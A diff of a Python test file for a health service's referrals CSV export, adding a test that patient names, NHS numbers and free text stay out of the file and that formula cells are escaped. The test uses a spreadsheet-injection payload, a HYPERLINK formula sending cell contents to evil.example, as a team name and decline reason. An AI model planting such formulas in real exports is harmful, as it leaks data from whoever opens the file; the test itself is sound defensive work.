@@ -16,7 +16,8 @@ from recovery_at_home import services as rah
 from recovery_at_home.benchmark import build_open_referrals
 from recovery_at_home.models import TriageCategory
 from referrals import services
-from tests.factories import ReferralFactory
+from teams.services import accept_onto_caseload, discharge_from_caseload
+from tests.factories import ReferralFactory, TeamFactory
 
 LONDON = ZoneInfo("Europe/London")
 SUMMER_MORNING = dt.datetime(2026, 7, 14, 9, 30, tzinfo=LONDON)
@@ -42,8 +43,10 @@ def test_the_export_has_the_clock_fields_for_each_referral(world, client_for):
         rah.record_arrival(referral=late, user=coordinator)
     with time_machine.travel(SUMMER_MORNING + dt.timedelta(days=1), tick=False):
         team_referral = ReferralFactory(patient=world.patient_a, service=world.cit, team=world.team_a)
-        services.accept_referral(referral=team_referral, user=member)
-        services.close_referral(referral=team_referral, user=member, outcome="Goals met")
+        entry = accept_onto_caseload(referral=team_referral, key_worker=member, user=member)
+        discharge_from_caseload(
+            entry=entry, user=member, reason="goals_met", note=f"{world.patient_a.full_name} is walking again"
+        )
 
     response = client_for(world.users["service_manager"]).get(
         reverse("referrals:export"), {"received_from": "2026-07-14", "received_to": "2026-07-15"}
@@ -68,10 +71,36 @@ def test_the_export_has_the_clock_fields_for_each_referral(world, client_for):
         "Routine",
         "",
     )
-    assert (closed["Discharge date"], closed["Discharge reason"]) == ("2026-07-15", "Goals met")
-    assert world.patient_a.family_name not in b"".join(response.streaming_content).decode()
+    assert (closed["Discharge date"], closed["Discharge reason (code)"]) == ("2026-07-15", "goals_met")
+    assert world.patient_a.family_name not in str(rows)  # the discharge note is not exported
     (event,) = AuditEvent.objects.filter(action=AuditAction.LIST, detail__startswith="CSV export")
     assert event.patient is None
+
+
+def test_free_text_and_formulas_never_reach_the_spreadsheet(world, client_for):
+    """A decline reason may name the person or carry a formula that runs when the
+    manager opens the file: the export carries the coded status, and any cell that a
+    spreadsheet would read as a formula (a team named so, say) is text."""
+    with time_machine.travel(SUMMER_MORNING, tick=False):
+        formula_team = TeamFactory(name='=HYPERLINK("https://evil.example/?d="&A1,"Open")')
+        declined = ReferralFactory(patient=world.patient_a, service=world.cit, team=formula_team)
+        services.decline_referral(
+            referral=declined,
+            user=world.users["cit_member_a"],
+            reason=f'=HYPERLINK("https://evil.example/?d="&A1,"Open") {world.patient_a.full_name} '
+            f"{world.patient_a.nhs_number}",
+        )
+    response = client_for(world.users["service_manager"]).get(
+        reverse("referrals:export"), {"received_from": "2026-07-14", "received_to": "2026-07-14"}
+    )
+    text = b"".join(response.streaming_content).decode()
+    (row,) = [r for r in csv.DictReader(io.StringIO(text)) if r["Referral identifier"] == declined.reference]
+    assert row["Discharge reason (code)"] == "declined"
+    assert row["Team"] == "'" + formula_team.name  # shown as text, never evaluated
+    assert not any(
+        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in csv.reader(io.StringIO(text)) for cell in r
+    )
+    assert world.patient_a.family_name not in text and world.patient_a.nhs_number not in text
 
 
 def test_ten_thousand_rows_stream_in_bounded_memory(world, client_for):
